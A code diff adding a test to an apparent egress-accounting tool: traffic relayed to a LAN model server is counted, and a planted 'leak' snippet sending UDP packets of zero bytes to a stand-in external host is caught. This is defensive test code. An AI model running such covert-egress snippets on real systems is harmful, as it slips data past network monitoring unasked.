@@ -1,7 +1,8 @@
 /** `isopod egress statement`: what left is accounted for, and a planted leak or a rewritten ledger fails. */
 
 import assert from "node:assert/strict";
-import { spawnSync } from "node:child_process";
+import { spawn, spawnSync } from "node:child_process";
+import { once } from "node:events";
 import { copyFileSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { test } from "node:test";
@@ -65,6 +66,61 @@ test(
     const forged = verify(machine, file, (text) => text.replace('"refused": 0', '"refused": 1'));
     assert.equal(forged.status, 1);
     assert.match(forged.said, /did not sign/);
+    await gateway.stop();
+  },
+);
+
+/** A model server of the LAN: the far end of the cable passes on to it. */
+const RELAY = `
+  const { createServer, connect } = require("node:net");
+  createServer((socket) => {
+    const onward = connect(Number(process.argv[1]), "127.0.0.1");
+    socket.pipe(onward).pipe(socket);
+    for (const end of [socket, onward]) end.on("error", () => {});
+  }).listen(11999, "10.77.0.1", () => console.log("ready"));
+`;
+
+test(
+  "security: what goes to a host of the LAN is accounted for, and what goes beside it is not",
+  { skip },
+  async (t) => {
+    const machine = createMachine(t);
+    const cable = await watchCable(t, machine.path("resolv.conf"));
+    const says = Array.from({ length: 8 }, () => [{ text: "Hello from the LAN." }]);
+    const ollama = await startModel(t, "ollama", { turns: says }, cable.far.enter);
+    const [, port = ""] = ollama.address.split(":");
+    const [program = "", ...args] = [...cable.far.enter, process.execPath, "-e", RELAY, port];
+    const relay = spawn(program, args, { stdio: ["ignore", "pipe", "inherit"] });
+    t.after(() => relay.kill("SIGKILL"));
+    await once(relay.stdout, "data");
+    machine.config({
+      models: {
+        providers: {
+          lan: { api: "ollama", baseUrl: "http://10.77.0.1:11999", models: { "qwen3:8b": {} } },
+        },
+      },
+      agents: { defaults: { model: { primary: "lan/qwen3:8b" } } },
+    });
+    const gateway = await machine.gateway({ enter: cable.enter });
+    const statement = await chatAndState(machine, 0);
+    assert.equal(statement["verdict"], "accounted", JSON.stringify(statement["reasons"]));
+    assert.ok(Number((statement["left"] as Json)["frames"]) > 5, "the cable was used");
+    const peer = (statement["peers"] as Json[]).find(({ place }) => place === "lan");
+    assert.deepEqual([peer?.["host"], peer?.["onward"]], ["10.77.0.1:11999", "not proven"]);
+    const good = verify(machine, String(statement["file"]));
+    assert.equal(good.status, 0, good.said);
+
+    // From the gateway's namespace, past the gateway: as much as a file.
+    const leak = `require("node:net").connect(443, "10.77.0.1").on("error", () => {});
+    const udp = require("node:dgram").createSocket("udp4");
+    let left = 40;
+    const send = () => udp.send(Buffer.alloc(1000), 9, "203.0.113.7", () => --left ? send() : udp.close());
+    send();`;
+    const [node = "", ...words] = [...cable.enter, process.execPath, "-e", leak];
+    assert.equal(spawnSync(node, words).status, 0);
+    const failed = await chatAndState(machine, 1);
+    assert.match(String(failed["reasons"]), /bytes left/);
+    assert.equal(verify(machine, String(failed["file"])).status, 1);
     await gateway.stop();
   },
 );
